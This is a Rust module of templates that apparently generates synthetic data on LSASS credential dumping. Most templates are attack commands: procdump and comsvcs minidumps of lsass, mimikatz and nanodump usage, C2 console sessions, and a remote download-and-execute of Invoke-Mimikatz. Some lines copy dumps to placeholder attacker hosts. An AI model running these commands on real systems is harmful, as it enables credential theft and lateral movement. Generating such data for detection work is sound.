//! LSASS memory taken by every tool (T1003.001): the neighbour most often met
//! beside the local account database.

use crate::generate::family::{Family, Kind::Cmd, Kind::Code, Kind::Console, Kind::Ps, Kind::Sh, Kind::Told};

pub const FAMILIES: &[Family] = &[
    Family::other("procdump", "lsass-procdump", Cmd, &[
        "{p} «-accepteula ¦/accepteula ¦»{f} {l} {o}",
        "{p} {f} -accepteula {l} {o}",
        "{p} -accepteula ⟦{f}¦«-o»¦«-r»⟧ {l} {o}",
        "{p} {f} {l} -accepteula",
        "start /b {p} -accepteula {f} {l} {o}",
        "cd {dir} & {p} -accepteula {f} {l} {stem}.dmp",
        "{p} -accepteula {f} -p {l} {o} & makecab {o} {stem}.cab",
        r"\\live.sysinternals.com\tools\procdump.exe -accepteula {f} {l} {o}",
        r"copy {dir}\procdump64.exe {dir}\{alnum5.1}.exe & {dir}\{alnum5.1}.exe -accepteula {f} {l} {o}",
        r#"for /f "tokens=2" %i in ('tasklist ^| findstr /i lsass') do {p} -accepteula {f} %i {o}"#,
        "{p} -accepteula -ma {l} {o} && 7z a {stem}.zip {o} && del {o}",
        r"psexec \\{host} -s -c {p} -accepteula {f} {l} {o}",
        "{p} -accepteula -k -ma {l} {o}",
        r#"{p} -accepteula -e 1 -f "" -ma {l} {o}"#,
        "{p} -u -accepteula",
    ])
    .slots(&[
        ("p", concat!(
                r"«procdump¦procdump.exe¦procdump64.exe¦procdump64¦ProcDump.exe¦{dir}\procdump.exe¦{dir}\procdump6",
                r"4.exe¦.\procdump64.exe¦{dir}\{alnum5}.exe¦C:\SysinternalsSuite\procdump.exe¦pd64.exe»",
            )),
        ("f", "«-ma¦-ma¦-mm¦-mp¦/ma¦-r -ma¦-64 -ma¦-mk»"),
        ("l", "«lsass.exe¦lsass.exe¦lsass¦LSASS.exe¦{pid}¦ls^ass.exe»"),
        ("o", r"«{dir}\lsass.dmp¦{dir}\{stem}.dmp¦lsass_dump¦lsass.dmp¦{outfile}¦»"),
    ])
    .weight(14),
    Family::other("comsvcs", "lsass-comsvcs", Cmd, &[
        "rundll32«.exe» {c}«,¦, ¦ »{f} {pid} {o} full",
        r#""{sys}\rundll32.exe" "{sys}\comsvcs.dll"«,¦ »{f} {pid} {o} full"#,
        r"rundll32.exe {c} {f} {pid} {o} full & copy {o} \\{attacker}\{share}\",
        r#"for /f "tokens=2 delims= " %i in ('tasklist ^| find "lsass"') do rundll32 {c}, {f} %i {o} full"#,
        concat!(
            r#"cmd /c for /f "tokens=1,2 delims= " ^%A in ('"tasklist /fi "Imagename eq lsass.exe" | find "#,
            r#""lsass""') do rundll32.exe {c}, {f} ^%B {o} full"#,
        ),
        r#"tasklist /svc /fi "imagename eq lsass.exe" & rundll32 {c} {f} {pid} {o} full"#,
        r"copy {sys}\comsvcs.dll {dir.1}\{stem.1}.dll & rundll32 {dir.1}\{stem.1}.dll,{f} {pid} {o} full",
        r#"wmic process where name="lsass.exe" get processid & rundll32.exe {c}, {f} {pid} {o} full"#,
        r#"wmic /node:{host} process call create "rundll32.exe {c}, {f} {pid} {o} full""#,
        concat!(
            r#"schtasks /create /tn {stem} /tr "rundll32.exe {c} {f} {pid} {o} full" /sc once /st "#,
            "{10..23}:{10..59} /ru SYSTEM",
        ),
        "rundll32.exe {c} {f} {pid} {o} full && certutil -encode {o} {stem}.txt",
        r"rundll32 {c} {f} {pid} \\{attacker}\{share}\{stem}.dmp full",
        "%COMSPEC% /Q /c rundll32 {c} {f} {pid} {o} full",
    ])
    .slots(&[
        ("sys", concat!(
                r"«C:\Windows\System32¦C:\windows\system32¦%SystemRoot%\System32¦%windir%\system32¦C:\Windows\SysW",
                "OW64»",
            )),
        ("c", concat!(
                r"«comsvcs.dll¦comsvcs¦C:\Windows\System32\comsvcs.dll¦C:\windows\system32\comsvcs.dll¦{dir}\{stem",
                r"}.dll¦.\..\..\Windows\System32\comsvcs.dll»",
            )),
        ("f", "«MiniDump¦MiniDump¦#24¦#+24¦#-4294967272¦#65560¦minidump¦MiniDumpW»"),
        ("o", r"«{dir}\lsass.dmp¦{dir}\{stem}.dmp¦{dir}\{stem}.{anyext}¦lsass.dmp¦{outfile}»"),
    ])
    .weight(14),
    Family::other("lsass-dumpers", "lsass-dumpers", Cmd, &[
        concat!(
            "«nanodump¦nanodump.exe¦nanodump.x64.exe» ⟦--write {o}¦«--valid»¦«--fork»¦«--duplicate»¦«--snapsh",
            "ot»¦«--silent-process-exit {dir}»⟧",
        ),
        "nanodump --pid {pid} --write {o} «--getpid¦--elevate-handle¦--seclogon-leak-local¦--spoof-callstack»",
        "«dumpert¦Outflank-Dumpert.exe¦Dumpert.exe»",
        r"rundll32.exe {dir}\Outflank-Dumpert.dll,Dump",
        "handlekatz.exe --pid:{pid} --outfile:{o}",
        "«SharpDump.exe¦SafetyDump.exe¦SharpMiniDump.exe¦MiniDump.exe¦PostDump.exe¦Physmem2profit.exe» {pid}",
        "PPLdump«64».exe «-v ¦-f ¦»lsass.exe {o}",
        "PPLmedic.exe dump {pid} {o}",
        "PPLKiller.exe /«disableLSAProtection¦enablePPL {pid}¦installDriver»",
        "EDRSandblast.exe «--usermode ¦--kernelmode »dump -o {o}",
        "mimidrv.exe /process:lsass.exe /remove",
        "sqldumper.exe {pid} 0 0x0110«:40»",
        r#""C:\Program Files\Microsoft SQL Server\{90..160}\Shared\SqlDumper.exe" {pid} 0 0x01100"#,
        "createdump.exe -u -f {o} {pid}",
        "dotnet-dump collect -p {pid} -o {o}",
        "rdrleakdiag.exe /p {pid} /o {dir} /fullmemdmp /wait 1",
        "adplus.exe -hang -pn lsass.exe -o {dir} -quiet",
        r#"cdb.exe -pn lsass.exe -pv -c ".dump /ma {o}; qd""#,
        r#"windbg.exe -p {pid} -c ".dump /mA {o};q""#,
        r#"ntsd -p {pid} -c ".dump /ma {o};q""#,
        r"werfault.exe /h /shared Global\{hex32} /t {pid} /p {pid}",
        "WerFaultSecure.exe /h /pid {pid} /tid {pid} /encfile {digit3} /cancel {digit3} /type 268310",
        "tttracer.exe -dumpFull -attach {pid}",
        concat!(
            "avdump.exe --pid {pid} --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file {o} ",
            "--min_interval 0",
        ),
        "DumpMinitool.exe --file {o} --processId {pid} --dumpType Full",
        "procexp64.exe /accepteula /t",
        "processhacker.exe -c -ctype process -cobject lsass.exe -caction dump",
        "taskmgr.exe /7",
        r#""C:\Program Files\Process Hacker 2\x86\ProcessHacker.exe" -s"#,
        "lsassy -d {domain} -u {user} -p {password} {rhost}",
        r"SysInternals\handle.exe -p lsass -accepteula",
        "TaskManager.exe & rem right click lsass.exe, create dump file",
        "lsass-shtinkering.exe {pid}",
        "MirrorDump.exe -f {stem}.dmp -d {stem} -l {stem}.dll",
        "HandleKatz_x64.exe --recon",
        "RdrLeakDiag.exe /p {pid} /o {dir} /memdmp",
        "xordump.exe -out {o} -x 0x41",
        "AndrewSpecial.exe",
        "spraykatz.py -u {user} -p {password} -t {cidr}",
        "Dumpy.exe --dump -k {stem} -u {url}",
        "TrickDump.exe lock",
        "SilentProcessExit.exe lsass.exe {pid}",
    ])
    .slots(&[
        ("o", r"«{dir}\lsass.dmp¦{dir}\{stem}.dmp¦{dir}\{stem}.{anyext}¦lsass.dmp¦{outfile}»"),
    ])
    .weight(14),
    Family::other("lsass-powershell", "lsass-powershell", Ps, &[
        concat!(
            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump «(Get-Process lsass).Id¦(gps ",
            r"lsass).id¦$pid1¦$id» {dir}\{stem}.dmp full",
        ),
        r"$p = Get-Process lsass; rundll32 C:\Windows\System32\comsvcs.dll, MiniDump $p.Id {psout} full",
        "Out-Minidump -Process (Get-Process lsass) -DumpFilePath {psdir}",
        "Get-Process lsass | Out-Minidump",
        r#"«powershell -c »"$id=(ps lsass).Id; rundll32 comsvcs.dll, MiniDump $id {psout} full""#,
        concat!(
            r"[System.Reflection.Assembly]::LoadFile('{dir}\{stem}.dll'); ",
            "[MiniDump.Program]::Dump((Get-Process lsass).Id, {psout})",
        ),
        concat!(
            "$h = Get-Process lsass; $f = New-Object IO.FileStream({psout}, [IO.FileMode]::Create); ",
            "$m::MiniDumpWriteDump($h.Handle, $h.Id, $f.SafeFileHandle, 2, 0, 0, 0)",
        ),
        concat!(
            "$WER = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting'); $nm = ",
            "$WER.GetNestedType('NativeMethods', 'NonPublic'); $nm.GetMethod('MiniDumpWriteDump', ",
            "$flags).Invoke($null, @($h, $ppid, $file, 2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero))",
        ),
        "Invoke-Mimikatz -DumpCreds«  -ComputerName {host}»",
        concat!(
            r#"Invoke-Mimikatz -Command '"sekurlsa::«logonpasswords¦wdigest¦ekeys¦tickets /export¦minidump "#,
            r#"lsass.dmp»"'"#,
        ),
        concat!(
            "Invoke-Command -ComputerName {host} -ScriptBlock { procdump.exe -accepteula -ma lsass.exe ",
            r"{dir}\{stem}.dmp }",
        ),
        "IEX (New-Object Net.WebClient).DownloadString('{url}'); Invoke-Mimikatz -DumpCreds",
        "iex (iwr {url} -UseBasicParsing); Invoke-Mimikittenz",
        r#"Get-WmiObject Win32_Process -Filter "Name='lsass.exe'" | Select ProcessId"#,
        concat!(
            r"New-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows ",
            r"NT\CurrentVersion\SilentProcessExit\lsass.exe' -Name «DumpType -Value 2¦LocalDumpFolder -Value ",
            "{dir}¦ReportingMode -Value 2»",
        ),
        concat!(
            r"New-Item 'HKLM:\SOFTWARE\Microsoft\Windows\Windows Error Reporting\LocalDumps\lsass.exe'; ",
            r"Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\Windows Error ",
            r"Reporting\LocalDumps\lsass.exe' DumpType 2",
        ),
        concat!(
            r"while(-not (Get-Process procdump -ea 0)) { Start-Sleep 1 }; Start-Process {dir}\procdump64.exe ",
            r"'-accepteula -ma lsass.exe {dir}\{stem}.dmp' -WindowStyle Hidden",
        ),
        "(Get-Process lsass).Modules | Select ModuleName, FileName",
        concat!(
            r". .\Invoke-«PowerExtract¦ReflectivePEInjection¦NanoDump¦Dumpert».ps1; Invoke-PowerExtract ",
            r"-PathToDMP {psdir}\lsass.dmp",
        ),
        concat!(
            r#"$bytes = [IO.File]::ReadAllBytes("{psdir}\lsass.dmp"); [Convert]::ToBase64String($bytes) | "#,
            r"Set-Content {psdir}\{stem}.txt",
        ),
        r"Compress-Archive {psdir}\lsass.dmp {psdir}\{stem}.zip; Remove-Item {psdir}\lsass.dmp",
        r"& {psdir}\procdump64.exe -accepteula -ma (Get-Process lsass).Id {psdir}\{stem}",
        r"Copy-Item {psdir}\lsass.dmp \\{attacker}\{share}\{plainhost}.dmp",
        concat!(
            r"Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest ",
            "UseLogonCredential 1",
        ),
    ])
    .weight(14),
    Family::other("lsass-offline", "lsass-offline", Sh, &[
        "pypykatz lsa minidump {d}« -o {shout}»« --json»« -g»",
        "{python} -m pypykatz lsa minidump {d} -k {shdir}",
        "pypykatz lsa minidump -d {shdir} -r",
        concat!(
            "lsassy «-u {user} -p {password}¦-u {user} -H {nthash}¦-k» «-d {domain} »{rhost}« -m ",
            "«comsvcs¦procdump¦nanodump¦dumpert¦mirrordump¦edrsandblast¦rdrleakdiag¦silentprocessexit»»« -o ",
            "{shout}»",
        ),
        "lsassy {cidr} -d {domain} -u {user} -p {password} --format json",
        "{nxc} smb {nxctarget} {nxcauth} -M «lsassy¦nanodump¦procdump¦handlekatz¦mimikatz¦masky¦lsassdump»",
        "{nxc} smb {nxctarget} {nxcauth} -M mimikatz -o COMMAND='sekurlsa::«logonpasswords¦wdigest¦ekeys»'",
        "restore_signature {d}",
        "./restore_signature.sh {d} && pypykatz lsa minidump {d}",
        "volatility -f {stem}.raw --profile=Win7SP1x64 memdump -p {pid} -D {shdir}",
        "vol -f {stem}.mem windows.memmap --pid {pid} --dump",
        "vol -f {stem}.raw windows.«pslist¦dlllist¦handles» --pid {pid}",
        "strings -el {d} | grep -i passw",
        "file {d}; sha1sum {d}",
        "scp {d} {user}@{attacker}:{shdir}",
        "smbclient //{rhost}/C$ -U '{user}%{password}' -c 'cd temp; get lsass.dmp'",
        r#"wine mimikatz.exe "sekurlsa::minidump {d}" "sekurlsa::logonpasswords" exit"#,
        "python3 nanodump/scripts/restore_signature.py {d}",
        "minikerberos-getTGT {d}",
        "lsa-reaper.sh -u {user} -p {password} -t {cidr}",
        "{python} physmem2profit --mode dump --host {rhost} --label {stem}",
        "smbserver.py share . -smb2support # receive lsass dump",
        "md5sum lsass.DMP",
        "for f in *.dmp; do pypykatz lsa minidump $f >> {shout}; done",
    ])
    .slots(&[
        ("d", "«lsass.dmp¦{stem}.dmp¦{shdir}/lsass.dmp¦lsass.DMP¦{shdir}/{plainhost}.dmp¦{stem}.bin»"),
    ]),
    Family::other("lsass-console", "lsass-console", Console, &[
        concat!(
            "beacon> «logonpasswords¦wdigest¦mimikatz sekurlsa::logonpasswords¦mimikatz ",
            r"!sekurlsa::ekeys¦nanodump --write {dir}\{stem}.dmp¦nanodump --valid¦dumpert¦execute-assembly ",
            "{shdir}/SharpDump.exe {pid}¦inline-execute {shdir}/nanodump.x64.o¦procdump64 -ma ",
            r"lsass.exe¦bof_minidump {pid} {dir}\{stem}¦shell tasklist | findstr ",
            "lsass¦nanodump_ppl_medic¦nanodump_ssp --write {stem}¦handlekatz ",
            "{pid}¦unhook-bof¦credprompt¦patchit all¦ppldump {pid}»",
        ),
        "[*] Tasked beacon to run mimikatz's sekurlsa::logonpasswords command",
        concat!(
            "[*] Tasked beacon to dump lsass with nanodump⏎[+] host called home, sent: {10000..900000} ",
            "bytes⏎[*] started download of {stem}.dmp ({1000000..90000000} bytes)",
        ),
        concat!(
            "meterpreter > «load kiwi⏎meterpreter > creds_all¦creds_wdigest¦creds_kerberos¦creds_msv¦kiwi_cmd",
            r#" "sekurlsa::logonpasswords"¦kiwi_cmd sekurlsa::minidump {stem}.dmp¦load mimikatz⏎meterpreter > "#,
            "wdigest¦migrate -N lsass.exe¦ps -S lsass»",
        ),
        concat!(
            "msf6 > use post/windows/gather/«memory_dump¦memory_grep»⏎msf6 > set PID {pid}⏎msf6 > set ",
            "SESSION {1..9}⏎msf6 > run",
        ),
        concat!(
            "use post/windows/gather/credentials/«windows_autologin¦mssql_local_hashdump¦enum_laps¦skype¦outl",
            "ook»⏎set SESSION {1..9}⏎run",
        ),
        concat!(
            "sliver ({ALNUM8}) > «procdump -n lsass.exe -s {stem}.dmp¦procdump -p {pid}¦nanodump {pid} ",
            "{stem}.dmp 1 PMDM¦execute-assembly {shdir}/SharpDump.exe¦sideload {shdir}/mimikatz.exe ",
            "sekurlsa::logonpasswords exit¦handlekatz {pid}»",
        ),
        concat!(
            "(Empire: {ALNUM8}) > usemodule «powershell/credentials/mimikatz/logonpasswords¦powershell/collec",
            "tion/minidump¦credentials/mimikatz/command⏎set Command ",
            "sekurlsa::ekeys¦powershell/management/psinject»⏎execute",
        ),
        concat!(
            "(Empire: powershell/collection/minidump) > set ProcessName lsass⏎(Empire: ",
            "powershell/collection/minidump) > execute",
        ),
        concat!(
            "demon > «nanodump --write {stem}.dmp¦mimikatz sekurlsa::msv¦dotnet inline-execute ",
            "{shdir}/SharpKatz.exe --Command logonpasswords»",
        ),
        concat!(
            "mimikatz # sekurlsa::minidump {stem}.dmp⏎Switch to MINIDUMP : '{stem}.dmp'⏎mimikatz # ",
            "sekurlsa::«logonpasswords¦ekeys¦wdigest¦tickets»",
        ),
        concat!(
            "mimikatz # !+⏎mimikatz # !processprotect /process:lsass.exe /remove⏎mimikatz # ",
            "sekurlsa::logonpasswords",
        ),
        concat!(
            "mimikatz # privilege::debug⏎Privilege '20' OK⏎⏎mimikatz # ",
            "sekurlsa::«logonpasswords¦wdigest¦msv¦kerberos¦credman¦tspkg¦livessp¦ssp¦cloudap»",
        ),
        "mimikatz # misc::«memssp¦lock¦wp¦mflt¦skeleton»",
        "mimikatz # ts::«logonpasswords¦mstsc¦multirdp»",
        concat!(
            "mythic> «mimikatz -Command sekurlsa::logonpasswords¦execute_assembly -Assembly SafetyKatz.exe ",
            r#"-Arguments "sekurlsa::ekeys exit"¦pypykatz¦psinject {pid}»"#,
        ),
        concat!(
            "PoshC2> «invoke-mimikatz -command sekurlsa::logonpasswords¦sharpps out-minidump¦run-exe Program ",
            "SafetyDump {pid}»",
        ),
        "brute ratel> «shadowclone {pid}¦memdump {pid}¦samlogon {user}¦ppid {pid}»",
        r#"covenant> «LogonPasswords¦Mimikatz "sekurlsa::ekeys"¦SafetyKatz sekurlsa::logonpasswords¦SharpDump»"#,
        r"procdump> lsass.exe {pid} dumped to {dir}\{stem}.dmp",
        "pupy > «run memory_dump lsass¦mimikatz sekurlsa::logonpasswords¦lazagne memory¦loot_memory»",
        "nighthawk> inproc-minidump {pid} {stem}",
    ])
    .weight(12),
    Family::other("lsass-source", "lsass-source", Code, &[
        concat!(
            "MiniDumpWriteDump(«hProcess¦hProc¦process», «pid¦GetProcessId(hProcess)¦lsassPid», ",
            "«hFile¦file», «MiniDumpWithFullMemory¦(MINIDUMP_TYPE)2¦0x00000002», «NULL, NULL, NULL¦0, 0, ",
            "0¦IntPtr.Zero, IntPtr.Zero, IntPtr.Zero»);",
        ),
        concat!(
            "HANDLE h = OpenProcess(«PROCESS_ALL_ACCESS¦PROCESS_VM_READ | PROCESS_QUERY_INFORMATION¦0x1410», ",
            "FALSE, «lsassPid¦pid¦GetLsassPid()»);",
        ),
        concat!(
            r#"if («_wcsicmp(pe.szExeFile, L"lsass.exe") == 0¦lstrcmpi(entry.szExeFile, "lsass.exe") == 0») { "#,
            "pid = pe.th32ProcessID; }",
        ),
        concat!(
            r#"[DllImport("dbghelp.dll")] static extern bool MiniDumpWriteDump(IntPtr hProcess, uint pid, "#,
            "SafeHandle hFile, uint type, IntPtr e, IntPtr u, IntPtr c);",
        ),
        concat!(
            r#"var lsass = Process.GetProcessesByName("lsass")[0];⏎using (var fs = new "#,
            r#"FileStream(@"{dir}\{stem}.dmp", FileMode.Create)) MiniDumpWriteDump(lsass.Handle, "#,
            "(uint)lsass.Id, fs.SafeFileHandle, 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero);",
        ),
        "NtReadVirtualMemory(hLsass, address, buffer, size, &read);",
        "PssCaptureSnapshot(hLsass, PSS_CAPTURE_VA_CLONE | PSS_CAPTURE_HANDLES, 0, &snapshot);",
        "NtCreateProcessEx(&hClone, MAXIMUM_ALLOWED, NULL, hLsass, 0, NULL, NULL, NULL, FALSE);",
        "RtlReportSilentProcessExit(hLsass, 0);",
        "RtlAdjustPrivilege(20, TRUE, FALSE, &old); hLsass = OpenProcess(0x1010, FALSE, pid);",
        concat!(
            "for p in psutil.process_iter():⏎    if p.name() == 'lsass.exe':⏎        dump(p.pid, ",
            r"r'{dir}\{stem}.dmp')",
        ),
        concat!(
            "DeviceIoControl(hDriver, IOCTL_{ALNUM6}, &lsassPid, sizeof(lsassPid), &handle, sizeof(handle), ",
            "&n, NULL);",
        ),
        concat!(
            "from pypykatz.pypykatz import pypykatz⏎mimi = pypykatz.parse_minidump_file('{stem}.dmp')⏎print(m",
            "imi.to_json())",
        ),
        r#"SecurityPackages = AddSecurityPackageW(L"{dir}\\{stem}.dll", &opts);"#,
        concat!(
            r#"CreateProcessAsUser(hToken, L"C:\\Windows\\System32\\rundll32.exe", L"rundll32.exe comsvcs.dll "#,
            r#"MiniDump {pid} {stem}.dmp full", 0, 0, FALSE, 0, 0, 0, &si, &pi);"#,
        ),
        "NtOpenProcess(&hLsass, PROCESS_VM_READ, &oa, &cid); // lsass",
        "$type::MiniDumpWriteDump($lsass.Handle, $lsass.Id, $stream.SafeFileHandle, 2, 0, 0, 0)",
        concat!(
            r#"OpenOptions::new().write(true).create(true).open("{stem}.dmp")?; unsafe { "#,
            "MiniDumpWriteDump(handle, pid, file.as_raw_handle(), MiniDumpWithFullMemory, null(), null(), ",
            "null()) };",
        ),
    ])
    .weight(8),
    Family::other("lsass-told", "lsass-told", Told, &[
        concat!(
            "{who} «dumped¦read¦accessed¦extracted credentials from¦created a dump of» «LSASS ",
            "memory¦lsass.exe¦the LSASS process¦the memory of lsass.exe» «with¦using» {t}{where}.",
        ),
        "{t} «was used to dump¦created a minidump of¦opened a handle to» lsass.exe «(PID {pid}) ¦»{where}.",
        "Process {t} accessed lsass.exe with GrantedAccess 0x«1010¦1410¦1FFFFF¦1438¦143A»{where}.",
        "«Alert¦Detection¦EDR»: credential «dumping¦theft¦access» from LSASS memory {where}, process {t}",
        r"A memory dump of lsass.exe was written to {dir}\{stem}.dmp by {account}.",
        "{who} exfiltrated the LSASS dump {stem}.dmp to {ip}.",
        "{who} parsed the LSASS dump offline with «pypykatz¦mimikatz sekurlsa::minidump».",
        "{who} enabled WDigest so that plaintext passwords stay in LSASS memory{where}.",
        "{who} injected «code¦a DLL¦a security support provider» into lsass.exe{where}.",
        "LSASS was configured as a protected process «on {isodate}¦by policy»{where}.",
        "{who} removed the PPL protection of LSASS with a vulnerable driver{where}.",
        concat!(
            r"{stamp} {plainhost} Sysmon: Process accessed: SourceImage: {dir}\{stem}.exe TargetImage: ",
            r"C:\Windows\system32\lsass.exe GrantedAccess: 0x1010 CallTrace: ",
            r"C:\Windows\SYSTEM32\ntdll.dll+{hex5}|C:\Windows\System32\KERNELBASE.dll+{hex5}|UNKNOWN({HEX16})",
        ),
        "Credential Guard is «running¦not configured»{where}, so LSASS secrets are «isolated¦exposed».",
        r"File created: Image: {dir}\{stem}.exe TargetFilename: {dir}\lsass.dmp User: {account}",
        concat!(
            r#"LSASS access by {t} was blocked by the attack surface reduction rule "Block credential stealing "#,
            r#"from the Windows local security authority subsystem"{where}."#,
        ),
        concat!(
            r#"{"rule":"LSASS Memory Read","process":"{stem}.exe","target":"lsass.exe","host":"{plainhost}","te"#,
            r#"chnique":"T1003.001"}"#,
        ),
        "Mimikatz module sekurlsa::logonpasswords was «seen¦executed¦detected in memory»{where}.",
    ])
    .slots(&[
        ("t", concat!(
                "«procdump¦procdump64.exe¦comsvcs.dll MiniDump¦Task ",
                "Manager¦mimikatz¦nanodump¦rundll32.exe¦SharpDump¦Process ",
                "Hacker¦Dumpert¦sqldumper.exe¦lsassy¦pypykatz¦a renamed procdump¦{stem}.exe»",
            )),
    ])
    .weight(12),
    Family::other("lsass-dumpers", "lsass-mixed", Cmd, &[
        concat!(
            r"«procdump¦procdump.exe¦procdump64.exe¦{dir}\procdump.exe¦{dir}\{alnum5}.exe» «-accepteula ",
            "¦/accepteula ¦»-«ma¦mm¦r -ma¦64 -ma» «lsass.exe¦lsass¦{pid}» {outfile}",
        ),
        r"rundll32«.exe» «C:\Windows\System32\»comsvcs.dll«, ¦,»«MiniDump¦#24¦#+24» {pid} {outfile} full",
        concat!(
            r#"for /f "tokens=1,2 delims= " %A in ('"tasklist /fi "Imagename eq lsass.exe" | find "lsass""') "#,
            r"do rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump %B {outfile} full",
        ),
        "«nanodump¦nanodump.exe» «--write {outfile}¦--pid {pid}¦--fork --write {outfile}»",
        "sqldumper.exe {pid} 0 0x01100",
        "createdump.exe -u -f {outfile} {pid}",
        concat!(
            "«dumpert.exe¦Outflank-Dumpert.exe¦handlekatz.exe --pid:{pid} --outfile:{outfile}¦PPLdump.exe ",
            "lsass.exe {outfile}¦ProcessDump.exe {pid}»",
        ),
        r#"tasklist /fi "imagename eq lsass.exe""#,
        "adplus.exe -hang -p {pid} -o {dir} -quiet",
        r"werfault.exe /h /shared Global\{hex32} /t {pid} /p {pid}",
        "rdrleakdiag.exe /p {pid} /o {dir} /fullmemdmp /wait 1",
        "avdump.exe --pid {pid} --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file {outfile}",
        "taskmgr.exe & rem create dump of lsass",
        "dotnet-dump collect -p {pid}",
    ])
    .weight(8),
];
